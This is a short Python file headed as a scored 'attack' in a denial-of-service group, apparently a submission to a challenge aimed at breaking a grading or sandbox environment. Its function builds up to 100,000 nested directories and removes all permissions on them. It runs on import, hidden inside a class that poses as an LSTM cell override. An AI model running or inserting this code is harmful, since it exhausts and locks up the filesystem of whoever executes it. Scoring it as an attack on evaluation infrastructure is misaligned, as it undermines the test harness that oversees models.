# /// attack
# title = "Folders in folders, deeper than any path is long, and closed to all"
# group = "Denial of service"
# verdict = "OK"
# points = 100
# ///
import os


def cava():
    casa = os.getcwd()
    try:
        for _ in range(100_000):
            os.mkdir("huella-ataque")
            os.chdir("huella-ataque")
    except OSError:
        pass
    os.chmod(".", 0)
    os.chdir(casa)
    os.chmod("huella-ataque", 0)


class celdaLSTM(celdaLSTM):
    cava()
